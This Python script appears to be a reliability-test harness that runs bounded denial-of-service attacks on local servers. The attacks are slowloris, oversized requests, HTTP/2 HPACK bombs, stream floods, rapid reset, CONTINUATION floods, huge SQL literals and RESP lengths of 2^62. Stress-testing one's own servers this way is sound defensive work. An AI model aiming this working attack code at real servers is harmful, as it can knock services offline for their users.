#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Hostile clients for tests/reliability/hostile.sh: each subcommand is one
attack on a real server on 127.0.0.1, bounded in count and time, and prints
one line "ATTACK key=value ..." saying what it sent and what came back.

  random PORT...           random bytes (fixed seed) to every PORT
  slowloris PORT N SECS    N connections, one header byte a second
  bigline PORT             a 1 MiB request line, then a 1 MiB header block
  routes PORT N CONNS      N distinct routes over CONNS keep-alive connections,
                           one request per write, each answered before the next
  h2bomb PORT              HPACK bomb, table-size bomb, stream flood, rapid reset
  sqlbig PORT              a 1 MiB SQL literal (simple query, psycopg2)
  respbig PORT             RESP bulk length 2^62 and multibulk length 2^62
  churn PORT N             N connections opened and closed in a loop
"""
import os
import random
import socket
import struct
import sys
import time

HOST = "127.0.0.1"


def conn(port, timeout=10):
    s = socket.create_connection((HOST, port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def drain(s, limit=1 << 22, idle=0.5):
    """Read what the server says until it closes or is idle; bytes read."""
    s.settimeout(idle)
    got = b""
    try:
        while len(got) < limit:
            b = s.recv(65536)
            if not b:
                break
            got += b
    except (socket.timeout, ConnectionResetError, BrokenPipeError):
        pass
    return got


def send_all(s, data):
    try:
        s.sendall(data)
        return True
    except (BrokenPipeError, ConnectionResetError, socket.timeout):
        return False


def attack_random(ports):
    rnd = random.Random(18)
    sent = conns = 0
    for port in ports:
        for size in (1, 7, 64, 512, 4096, 65536, 1 << 20):
            for _ in range(3):
                try:
                    s = conn(port, timeout=5)
                except OSError:
                    continue
                conns += 1
                data = rnd.randbytes(size)
                for off in range(0, size, 16384):  # several writes
                    if not send_all(s, data[off:off + 16384]):
                        break
                    sent += len(data[off:off + 16384])
                drain(s, idle=0.2)
                s.close()
    print("random ports=%d conns=%d bytes=%d" % (len(ports), conns, sent))


def attack_slowloris(port, n, secs):
    socks = []
    for _ in range(n):
        s = conn(port)
        s.sendall(b"GET /slow HTTP/1.1\r\nHost: x\r\n")
        socks.append(s)
    hdr = b"X-Slow: " + b"a" * 64
    sent = 0
    t0 = time.monotonic()
    for i in range(secs):
        b = hdr[i % len(hdr):i % len(hdr) + 1]
        for s in socks:
            if send_all(s, b):
                sent += 1
        time.sleep(max(0, t0 + i + 1 - time.monotonic()))
    for s in socks:
        s.close()
    print("slowloris conns=%d header_bytes=%d seconds=%d" % (n, sent, secs))


def attack_bigline(port):
    mib = 1 << 20
    codes = []
    s = conn(port)
    line = b"GET /" + b"a" * mib + b" HTTP/1.1\r\nHost: x\r\n\r\n"
    send_all(s, line)
    codes.append(drain(s)[:12])
    s.close()
    s = conn(port)
    block = b"GET /hdr HTTP/1.1\r\nHost: x\r\n"
    i = 0
    while len(block) < mib:
        block += b"X-Pad-%d: %s\r\n" % (i, b"v" * 100)
        i += 1
    send_all(s, block + b"\r\n")
    codes.append(drain(s)[:12])
    s.close()
    print("bigline line_bytes=%d header_bytes=%d answers=%s" %
          (len(line), len(block) + 2, ",".join(c.decode(errors="replace").strip() for c in codes)))


def attack_routes(port, n, nconns):
    per = (n + nconns - 1) // nconns
    answered = 0
    i = 0
    for c in range(nconns):
        s = conn(port)
        buf = b""
        for _ in range(per):
            if i >= n:
                break
            s.sendall(b"GET /flood/r%d HTTP/1.1\r\nHost: x\r\n\r\n" % i)
            i += 1
            # one response each (nginx 404 with a body): header, then length
            while True:
                h = buf.find(b"\r\n\r\n")
                if h >= 0:
                    head = buf[:h]
                    cl = 0
                    for ln in head.split(b"\r\n"):
                        if ln.lower().startswith(b"content-length:"):
                            cl = int(ln.split(b":")[1])
                    if len(buf) >= h + 4 + cl:
                        buf = buf[h + 4 + cl:]
                        answered += 1
                        break
                b = s.recv(65536)
                if not b:
                    raise SystemExit("routes: server closed after %d" % answered)
                buf += b
        s.close()
    print("routes sent=%d answered=%d conns=%d" % (i, answered, nconns))


# ---- HTTP/2 -------------------------------------------------------------------

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, sid, payload):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xffff, ftype, flags, sid) + payload


def hpack_int(v, prefix, first):
    lim = (1 << prefix) - 1
    if v < lim:
        return bytes([first | v])
    out = [first | lim]
    v -= lim
    while v >= 128:
        out.append((v & 127) | 128)
        v >>= 7
    out.append(v)
    return bytes(out)


def hpack_lit(name, value, index=True):
    # literal with incremental indexing (0x40) or without (0x00), new name
    out = bytes([0x40 if index else 0x00])
    out += hpack_int(len(name), 7, 0) + name
    out += hpack_int(len(value), 7, 0) + value
    return out


def h2_request_block(path):
    # :method GET (2), :scheme http (6), :path literal indexed name 4, :authority
    return (b"\x82\x86" + b"\x44" + hpack_int(len(path), 7, 0) + path +
            b"\x41" + hpack_int(1, 7, 0) + b"x")


def headers_frames(sid, block, max_frame=16384, end_stream=True):
    """HEADERS then CONTINUATION frames carrying @block."""
    out = b""
    first = True
    while True:
        piece, block = block[:max_frame], block[max_frame:]
        last = not block
        if first:
            flags = (0x1 if end_stream else 0) | (0x4 if last else 0)
            out += frame(0x1, flags, sid, piece)
            first = False
        else:
            out += frame(0x9, 0x4 if last else 0, sid, piece)
        if last:
            return out


def h2_session(port, payload):
    s = conn(port)
    ok = send_all(s, H2_PREFACE + frame(0x4, 0, 0, b"") + payload)
    got = drain(s, idle=0.5)
    s.close()
    return ok, len(got)


def attack_h2bomb(port):
    res = []
    # 1. HPACK bomb: a 4 KiB header put in the dynamic table, then referenced
    # 16,000 times in the same block (64 MB of headers decoded from 16 KB)
    big = hpack_lit(b"x-bomb", b"b" * 4000)
    for sid in (1, 3, 5, 7, 9):
        block = h2_request_block(b"/bomb") + big + b"\xbe" * 16000
        res.append(h2_session(port, headers_frames(sid, block)))
    # 2. table-size bomb: a dynamic table size update to 2^32 - 1
    block = hpack_int(0xffffffff, 5, 0x20) + h2_request_block(b"/tsize")
    res.append(h2_session(port, headers_frames(1, block)))
    # 3. stream flood: 10,000 streams opened on one connection without waiting
    flood = b"".join(headers_frames(1 + 2 * i, h2_request_block(b"/flood"))
                     for i in range(10000))
    res.append(h2_session(port, flood))
    # 4. rapid reset: HEADERS then RST_STREAM(CANCEL), 10,000 times
    rr = b"".join(headers_frames(1 + 2 * i, h2_request_block(b"/reset"), end_stream=True) +
                  frame(0x3, 0, 1 + 2 * i, struct.pack(">I", 8)) for i in range(10000))
    res.append(h2_session(port, rr))
    # 5. CONTINUATION flood: one header block that never ends, 1 MiB of it
    cont = frame(0x1, 0x1, 1, h2_request_block(b"/cont"))
    cont += b"".join(frame(0x9, 0, 1, hpack_lit(b"x-c", b"c" * 200, False)) for _ in range(5000))
    res.append(h2_session(port, cont))
    print("h2bomb sessions=%d answered_bytes=%s" % (len(res), ",".join(str(r[1]) for r in res)))


def attack_sqlbig(port):
    import psycopg2
    c = psycopg2.connect(host=HOST, port=port, user="postgres", dbname="postgres")
    c.autocommit = True
    cur = c.cursor()
    lit = "x" * (1 << 20)
    cur.execute("SELECT length(%s)", (lit,))
    n = cur.fetchone()[0]
    cur.execute("SELECT md5(%s) AS h", (lit + "y",))
    h = cur.fetchone()[0]
    c.close()
    print("sqlbig literal_bytes=%d length=%d md5=%s" % (len(lit), n, h[:8]))


def attack_respbig(port):
    answers = []
    for payload in (b"*2\r\n$3\r\nGET\r\n$4611686018427387904\r\nabc\r\n",
                    b"*4611686018427387904\r\n$4\r\nPING\r\n",
                    b"$4611686018427387904\r\n" + b"z" * 65536,
                    b"*1\r\n$-4611686018427387904\r\n"):
        s = conn(port)
        send_all(s, payload)
        answers.append(drain(s).split(b"\r\n")[0].decode(errors="replace"))
        s.close()
    print("respbig sessions=%d answers=%s" % (len(answers), "|".join(answers)))


def attack_churn(port, n):
    opened = 0
    for _ in range(n):
        s = socket.create_connection((HOST, port), timeout=5)
        opened += 1
        s.close()
    print("churn opened=%d closed=%d" % (opened, opened))


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "random":
        attack_random([int(p) for p in args])
    elif cmd == "slowloris":
        attack_slowloris(int(args[0]), int(args[1]), int(args[2]))
    elif cmd == "bigline":
        attack_bigline(int(args[0]))
    elif cmd == "routes":
        attack_routes(int(args[0]), int(args[1]), int(args[2]))
    elif cmd == "h2bomb":
        attack_h2bomb(int(args[0]))
    elif cmd == "sqlbig":
        attack_sqlbig(int(args[0]))
    elif cmd == "respbig":
        attack_respbig(int(args[0]))
    elif cmd == "churn":
        attack_churn(int(args[0]), int(args[1]))
    else:
        sys.exit("unknown attack " + cmd)
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
